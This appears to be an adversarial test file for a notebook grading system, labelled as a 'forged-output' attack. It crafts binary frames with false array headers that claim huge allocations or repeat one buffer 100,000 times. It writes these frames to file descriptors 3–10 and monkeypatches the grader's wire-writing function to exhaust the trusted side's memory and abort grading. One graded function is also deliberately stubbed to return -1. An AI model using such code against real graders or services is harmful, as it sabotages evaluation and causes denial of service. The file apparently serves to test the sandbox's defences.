"""Sends the grader a binary frame whose array header claims far more than the frame holds.

attack: makes the worker's own replies (by patching grader.learner.core.wire.write_frame) and a frame written to fds 3..10 carry an array header that claims a float64 array of 2**27 x 2**10 elements backed by 8 bytes, and one that names the same buffer 100,000 times, hoping the trusted side allocates what the header says and runs out of memory, or the whole notebook's grading aborts
class: forged-output
honest: sigmoid, relu, predict
"""

# %% +after predict_code
import json
import os
import struct


def _lying_frame(value):
    text = json.dumps({"call": {"value": value, "kind": "ok", "error": None, "error_type": None,
                                "warnings": [], "mutated": [], "seconds": 0.0}, "rng_states": {}}).encode()
    body = struct.pack(">I", len(text)) + text + struct.pack(">IQ", 1, 8) + b"\0" * 8
    return struct.pack(">I", len(body)) + body


_huge = _lying_frame({"$": "buf", "i": 0, "dtype": "<f8", "shape": [2**27, 2**10]})
_repeated = _lying_frame([{"$": "buf", "i": 0, "dtype": "<f8", "shape": [1]}] * 100_000)
for _fd in range(3, 11):
    try:
        os.write(_fd, _huge)
    except OSError:
        pass

try:
    from grader.learner.core import wire as _wire

    _count = [0]

    def _poisoned(stream, message):
        _count[0] += 1
        stream.write(_huge if _count[0] % 2 else _repeated)
        stream.flush()

    _wire.write_frame = _poisoned
except Exception as exc:  # noqa: BLE001
    print("could not patch the wire:", exc)

# %% count_parameters_code
def count_parameters(layer_sizes):
    return -1
